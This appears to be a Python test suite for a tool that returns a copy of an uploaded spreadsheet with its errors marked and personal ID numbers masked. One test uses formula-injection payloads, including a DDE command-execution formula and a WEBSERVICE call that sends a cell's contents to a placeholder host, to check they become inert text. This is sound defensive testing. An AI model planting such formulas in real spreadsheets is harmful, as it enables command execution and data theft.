"""The copy of a workbook with what is wrong marked in its cells, read back."""

import io
import zipfile

import openpyxl
import pytest
from bad_files_texts import ITS_PLACE, with_noncharacter
from binary_workbooks import binary_workbook, old_workbook, open_document
from loaders_files import bytes_of, changed_part, places, read, table, workbook
from openpyxl.comments import Comment
from raw_workbooks import HEADER, MAIN, PACKAGE, RELATIONS, ROWS, XML, members, raw_workbook

from loaders.files.marked_copy import marked_copy
from loaders.files.marking import FILLS, Labels, Mark

LABELS = Labels("Daftar masalah", "Yang perlu", "Perbaiki lalu unggah.", "Data", "Cakupan", tuple("abcd"))
RED, YELLOW = FILLS["error"].fgColor.rgb, FILLS["warning"].fgColor.rgb


def mark(cell: str | None, sheet: str | None = "Isian", level: str = "error", what: str = "Bukan angka") -> Mark:
    return Mark(sheet, cell, level, level, f"{sheet} {cell}", what, "Isi dengan angka")


def marked(data: bytes, *marks: Mark) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(marked_copy(data, marks, LABELS)))


def test_cells_are_coloured_and_say_what_is_wrong_and_the_list_links_to_them():
    data = table(("16.07", "2016-09", "PBI", "tiga ribu", None), ("16.07", "2016-10", "PBI", 5, None))
    book = marked(data, mark("D2"), mark("B3", level="warning", what="Bulan di depan"))
    sheet = book["Isian"]
    assert sheet["D2"].fill.fgColor.rgb == RED
    assert sheet["B3"].fill.fgColor.rgb == YELLOW
    assert sheet["D3"].fill.fill_type is None
    assert sheet["D2"].comment.text == "error: Bukan angka\nIsi dengan angka"
    assert (sheet["D2"].value, sheet["D3"].value) == ("tiga ribu", 5)
    listed = book.worksheets[0]
    assert listed.title == LABELS.sheet
    assert [listed.cell(row, 3).value for row in (5, 6)] == ["Bukan angka", "Bulan di depan"]
    assert listed["B5"].hyperlink.location == "'Isian'!D2"


def test_looks_of_a_workbook_are_kept_and_its_formulas_with_them():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Isian"
    sheet["A1"], sheet["A2"], sheet["A3"] = 2, "=A1*2", "=1+1"
    sheet["A3"].data_type = "s"
    sheet["A1"].font = openpyxl.styles.Font(bold=True)
    sheet.column_dimensions["A"].width = 31
    sheet.merge_cells("C1:D2")
    sheet["C1"] = "judul"
    copy = marked(bytes_of(book), mark("D2"))["Isian"]
    assert copy["A1"].font.bold
    assert copy.column_dimensions["A"].width == 31
    assert (copy["A2"].data_type, copy["A3"].data_type) == ("f", "s")
    assert copy["A3"].value == "=1+1"
    assert copy["C1"].fill.fgColor.rgb == RED
    assert copy["C1"].comment.text.startswith("error")


@pytest.mark.parametrize("formula", ["=cmd|'/C calc'!A0", '=WEBSERVICE("http://x/"&A1)', "=[1]Lain!A1"])
def test_formula_that_reaches_out_becomes_text(formula):
    copy = marked(workbook({"Isian": [[formula]]}), mark("A1"))["Isian"]
    assert copy["A1"].data_type == "s"
    assert copy["A1"].value == formula


NIK = "1607011203900001"
PERSONS = (("NIK", "Nama Peserta"), *((f"160701120390000{n}", f"Zulkarnain {n}") for n in range(4)))


def everything(book: openpyxl.Workbook) -> str:
    """All parts of a workbook as one text."""
    file = io.BytesIO()
    book.save(file)
    with zipfile.ZipFile(file) as zipped:
        return "\n".join(zipped.read(name).decode(errors="replace") for name in zipped.namelist())


def test_single_number_of_a_person_is_masked_in_the_copy_wherever_it_stands():
    book = openpyxl.load_workbook(io.BytesIO(table(("16.07", "2016-09", "PBI", 3, None))))
    sheet = book["Isian"]
    sheet["G2"], sheet["G3"], sheet["D3"] = f"koreksi {NIK}", float(NIK), "tiga"
    sheet["A2"].comment = Comment(f"NIK {NIK}", "a")
    copy = marked(bytes_of(book), mark("D3"))
    assert (copy["Isian"]["G2"].value, copy["Isian"]["G3"].value) == ("koreksi ••••", "••••")
    assert copy["Isian"]["D2"].value == 3
    assert NIK[:15] not in everything(copy)


WRITERS = {"xls": old_workbook, "xlsb": binary_workbook, "ods": open_document}


@pytest.mark.parametrize("ending", ["csv", "html", *WRITERS])
def test_copies_of_other_types_hold_the_values_and_no_number_of_a_person(ending):
    rows = (("Wilayah", "Catatan", "Jumlah"), ("16.07", f"koreksi {NIK}", 50))
    cells = [[f"<td>{value}</td>" for value in row] for row in rows]
    page = f"<table>{''.join('<tr>' + ''.join(row) for row in cells)}</table>"
    text = page if ending == "html" else "\n".join(";".join(map(str, row)) for row in rows)
    data = WRITERS[ending](rows) if ending in WRITERS else text.encode()
    copy = marked(data, mark("C2", sheet="Isian" if ending in WRITERS else None))
    sheet = copy.worksheets[1]
    assert [cell.value for cell in sheet[2]][:2] == ["16.07", "koreksi ••••"]
    assert (str(sheet["C2"].value), sheet["C2"].fill.fgColor.rgb) == ("50", RED)
    assert NIK not in everything(copy)


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_copy_leaves_out_what_no_file_can_hold(ending):
    written = with_noncharacter(workbook({"Isian": [["Wilayah", "Jumlah"], [f"Bany{ITS_PLACE}uasin", "tiga"]]}))
    data = written if ending == "xlsx" else "Wilayah;Jumlah\nBany\ufffeuasin;tiga".encode()
    copy = marked(data, mark("B2", sheet="Isian" if ending == "xlsx" else None))
    assert copy.worksheets[1]["A2"].value == "Banyuasin"


@pytest.mark.parametrize("state", ["visible", "hidden", "veryHidden"])
def test_sheet_of_persons_that_was_not_read_is_emptied(state):
    book = openpyxl.load_workbook(io.BytesIO(table(("16.07", "2016-09", "PBI", "tiga", None))))
    for row in PERSONS:
        book.create_sheet("Peserta").append(row) if "Peserta" not in book.sheetnames else book["Peserta"].append(row)
    book["Peserta"].merge_cells("A8:B9")
    book["Peserta"].sheet_state = state
    copy = marked(bytes_of(book), mark("D2"))
    assert copy["Isian"]["D2"].value == "tiga"
    assert "Zulkarnain" not in everything(copy) and NIK[:12] not in everything(copy)


def relations(*links: tuple[str, str]) -> str:
    inside = "".join(
        f'<Relationship Id="r{number}" Type="{RELATIONS}/{kind}" Target="{target}"/>'
        for number, (kind, target) in enumerate(links, start=1)
    )
    return f'{XML}<Relationships xmlns="{PACKAGE}/relationships">{inside}</Relationships>'


def with_pivot(name: str) -> bytes:
    """The good table with a pivot table that carries a row with this name, though no sheet has it any more."""
    source = '<cacheSource type="worksheet"><worksheetSource ref="A1:A2" sheet="Isian"/></cacheSource>'
    field = '<cacheFields count="1"><cacheField name="Nama"><sharedItems/></cacheField></cacheFields>'
    place = '<location ref="H1:I2" firstHeaderRow="1" firstDataRow="1" firstDataCol="0"/>'
    caches = '</sheets><pivotCaches><pivotCache cacheId="1" r:id="r2"/></pivotCaches>'
    records = f'<pivotCacheRecords xmlns="{MAIN}" count="1"><r><s v="{name}"/></r></pivotCacheRecords>'
    parts = {
        "xl/workbook.xml": str(members("")["xl/workbook.xml"]).replace("</sheets>", caches),
        "xl/_rels/workbook.xml.rels": relations(
            ("worksheet", "worksheets/sheet1.xml"), ("pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")
        ),
        "xl/worksheets/_rels/sheet1.xml.rels": relations(("pivotTable", "../pivotTables/pivotTable1.xml")),
        "xl/pivotTables/pivotTable1.xml": f'{XML}<pivotTableDefinition xmlns="{MAIN}" name="P" cacheId="1" '
        f'dataCaption="D">{place}<pivotFields count="1"><pivotField/></pivotFields></pivotTableDefinition>',
        "xl/pivotTables/_rels/pivotTable1.xml.rels": relations(
            ("pivotCacheDefinition", "../pivotCache/pivotCacheDefinition1.xml")
        ),
        "xl/pivotCache/pivotCacheDefinition1.xml": f'{XML}<pivotCacheDefinition xmlns="{MAIN}" '
        f'xmlns:r="{RELATIONS}" r:id="r1">{source}{field}</pivotCacheDefinition>',
        "xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels": relations(
            ("pivotCacheRecords", "pivotCacheRecords1.xml")
        ),
        "xl/pivotCache/pivotCacheRecords1.xml": f"{XML}{records}",
    }
    return raw_workbook(None, parts)


def test_rows_behind_a_pivot_table_do_not_go_into_the_copy():
    data = with_pivot("Zulkarnain")
    assert "Zulkarnain" in everything(openpyxl.load_workbook(io.BytesIO(data))), "openpyxl would write it again"
    copy = marked(data, mark("D2"))
    assert copy["Isian"]["D2"].value == 50
    assert "Zulkarnain" not in everything(copy)


@pytest.mark.parametrize("ending", ["xlsx", "xls"])
def test_marks_stand_in_their_cells_though_hidden_rows_were_left_out(ending):
    rows = (HEADER, *(("16.07", f"2016-0{month}", "PBI", 50, 40) for month in range(1, 5)), (*ROWS[1][:3], "tiga", 1))
    data = old_workbook(rows, hidden_row=2)
    if ending == "xlsx":
        book = openpyxl.Workbook()
        book.active.title = "Isian"
        for row in rows:
            book.active.append(row)
        book.active.row_dimensions[3].hidden = True
        data = bytes_of(book)
    reading = read(data, f"berkas.{ending}", answers=(("hidden", "exclude"),))
    assert ("not_a_number", "D6") in places(reading)
    assert [line.number for line in reading.pictures[0].lines] == [1, 2, 3, 4, 5, 6]
    copy = marked(data, *(mark(cell) for _, cell in places(reading)))
    assert (copy["Isian"]["D6"].value, copy["Isian"]["D6"].fill.fgColor.rgb) == ("tiga", RED)


def test_csv_becomes_a_workbook_whose_text_stays_text():
    data = b"nama;jumlah\n=1+1;1.234\n+62;x\n"
    copy = marked(data, mark("B3", sheet=None))
    sheet = copy[LABELS.data]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["nama", "jumlah"],
        ["=1+1", "1.234"],
        ["+62", "x"],
    ]
    assert sheet["A2"].data_type == "s"
    assert sheet["B3"].fill.fgColor.rgb == RED


def test_range_is_coloured_whole_and_a_problem_without_a_cell_is_only_listed():
    copy = marked(table(("16.07", "2016-09", "PBI", 3, None)), mark("A1:C1"), mark(None, sheet=None, what="Kosong"))
    assert {copy["Isian"].cell(1, column).fill.fgColor.rgb for column in (1, 2, 3)} == {RED}
    assert copy["Isian"]["B1"].comment is None
    assert copy.worksheets[0]["C6"].value == "Kosong"
    assert copy.worksheets[0]["B6"].hyperlink is None


def test_several_problems_of_one_cell_stand_in_one_comment_and_the_gravest_colours_it():
    copy = marked(table(("16.07", "2016-09", "PBI", 3, None)), mark("D2"), mark("D2", level="warning", what="Besar"))
    assert copy["Isian"]["D2"].fill.fgColor.rgb == RED
    assert all(words in copy["Isian"]["D2"].comment.text for words in ("Bukan angka", "Besar"))


def test_workbook_that_cannot_be_opened_with_its_looks_is_written_from_its_values():
    data = table(("16.07", "2016-09", "PBI", "tiga ribu", None))
    broken = changed_part(data, "xl/styles.xml", b"<fonts", b"<fonts count='x'")
    copy = marked(broken, mark("D2"))
    assert copy["Isian"]["D2"].value == "tiga ribu"
    assert copy["Isian"]["D2"].fill.fgColor.rgb == RED


def test_file_that_cannot_be_read_again_gives_the_list_alone():
    copy = marked(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, mark("A1"))
    assert copy.sheetnames == [LABELS.sheet]
    assert copy.worksheets[0]["C5"].value == "Bukan angka"
